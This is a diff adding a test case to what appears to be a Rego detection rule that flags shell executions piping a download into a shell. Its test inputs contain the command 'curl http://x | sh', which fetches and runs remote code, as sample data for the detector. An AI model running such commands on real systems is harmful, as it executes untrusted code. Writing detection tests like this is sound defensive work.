@@ -62,3 +62,8 @@ test_substitution_into_a_variable_is_quiet if {
 test_not_a_shell_is_quiet if {
 	count(finding) == 0 with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/python3", "argv": ["python3", "-c", "curl x | sh"]}}
 }
+
+test_repeated_c_flag_still_fires if {
+	some f in finding with input as {"name": "sched_process_exec", "process": {}, "args": {"pathname": "/usr/bin/dash", "argv": ["sh", "-c", "curl http://x | sh", "-c"]}}
+	f.shapes == ["pipe"]
+}
